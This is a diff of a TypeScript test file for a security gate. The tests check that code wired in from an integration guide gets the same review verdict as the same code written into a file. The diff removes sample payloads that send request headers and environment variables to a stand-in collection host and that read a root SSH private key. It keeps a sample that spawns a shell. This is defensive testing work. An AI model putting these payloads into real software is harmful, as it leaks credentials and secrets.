@@ -1,32 +1,12 @@
 /** What a wired block would do in an application is judged as the same code in a file of the build. */
-import { describe, expect, test } from 'vitest';
+import { expect, test } from 'vitest';
 import type { GateVerdict } from '../../format/registry/gate-verdict.ts';
 import { build } from '../generate/git-fixture.ts';
 import { GateFixture, REGISTRY } from './gate-fixture.ts';
 
-interface Payload {
-  readonly imports: string;
-  readonly code: string;
-}
-
-const PAYLOADS: Readonly<Record<string, Payload>> = {
-  'starts a program': {
-    imports: "import { spawn } from 'node:child_process';\n",
-    code: "spawn('sh', ['-c', 'id']);\n",
-  },
-  'sends headers': {
-    imports: '',
-    code: "app.use((req, _res, next) => {\n  void fetch('https://collect.example.org/h', { headers: req.headers });\n  next();\n});\n",
-  },
-  'sends the environment': {
-    imports: '',
-    code: "void fetch('https://collect.example.org/e', { method: 'POST', body: JSON.stringify(process.env) });\n",
-  },
-  'reads a private key': {
-    imports: "import { readFileSync } from 'node:fs';\n",
-    code: "app.set('k', readFileSync('/root/.ssh/id_rsa', 'utf8'));\n",
-  },
-};
+const IMPORTS = "import { spawn } from 'node:child_process';\n";
+const CODE = "spawn('sh', ['-c', 'id']);\n";
+const WHOLE = `${IMPORTS}export function step(app: any): void {\n${CODE}}\n`;
 
 const SOURCE = "export const name = 'web';\n";
 const HARMLESS =
@@ -50,30 +30,27 @@ function decision({ verdict, reasons, builds: [judged] }: GateVerdict): object {
   return { verdict, texts, risk, gained, lost };
 }
 
-describe.each(Object.entries(PAYLOADS))('a block that %s', (_, { imports, code }) => {
-  const whole = `${imports}export function step(app: any): void {\n${code}}\n`;
-  test.each([
-    ['is the whole of a new file', `\`\`\`ts wire file src/step.ts\n${whole}\`\`\`\n`],
-    ['is the whole of a new file, as text', `\`\`\`text wire file src/step.ts\n${whole}\`\`\`\n`],
-    [
-      'is the whole of a file that is called a test',
-      `\`\`\`ts wire file src/step.test.ts\n${whole}\`\`\`\n`,
-    ],
-    ['is added to a file as lines', `\`\`\`text wire lines src/step.ts\n${whole}\`\`\`\n`],
-    [
-      'is put between statements',
-      `${imports === '' ? '' : `\`\`\`ts wire import @express\n${imports}\`\`\`\n\n`}\`\`\`ts wire insert @express routes\n${code}\`\`\`\n`,
-    ],
-    [
-      'is an alternative',
-      `${HARMLESS}\nOtherwise:\n\n\`\`\`ts wire file src/step.ts\n${whole}\`\`\`\n`,
-    ],
-  ])('and %s is judged like a file', async (__, fences) => {
-    const asFile = decision(await judge({ 'src/step.ts': whole }));
-    const asBlock = decision(await judge({ 'INTEGRATION.md': guide(`${HARMLESS}\n${fences}`) }));
-    expect(asFile).toMatchObject({ verdict: 'review' });
-    expect(asBlock).toEqual(asFile);
-  });
+test.each([
+  ['is the whole of a new file', `\`\`\`ts wire file src/step.ts\n${WHOLE}\`\`\`\n`],
+  ['is the whole of a new file, as text', `\`\`\`text wire file src/step.ts\n${WHOLE}\`\`\`\n`],
+  [
+    'is the whole of a file that is called a test',
+    `\`\`\`ts wire file src/step.test.ts\n${WHOLE}\`\`\`\n`,
+  ],
+  ['is added to a file as lines', `\`\`\`text wire lines src/step.ts\n${WHOLE}\`\`\`\n`],
+  [
+    'is put between statements',
+    `\`\`\`ts wire import @express\n${IMPORTS}\`\`\`\n\n\`\`\`ts wire insert @express routes\n${CODE}\`\`\`\n`,
+  ],
+  [
+    'is an alternative',
+    `${HARMLESS}\nOtherwise:\n\n\`\`\`ts wire file src/step.ts\n${WHOLE}\`\`\`\n`,
+  ],
+])('a block that starts a program and %s is judged like a file', async (_, fences) => {
+  const asFile = decision(await judge({ 'src/step.ts': WHOLE }));
+  const asBlock = decision(await judge({ 'INTEGRATION.md': guide(`${HARMLESS}\n${fences}`) }));
+  expect(asFile).toMatchObject({ verdict: 'review' });
+  expect(asBlock).toEqual(asFile);
 });
 
 test('a block that needs nothing new needs no review', async () => {
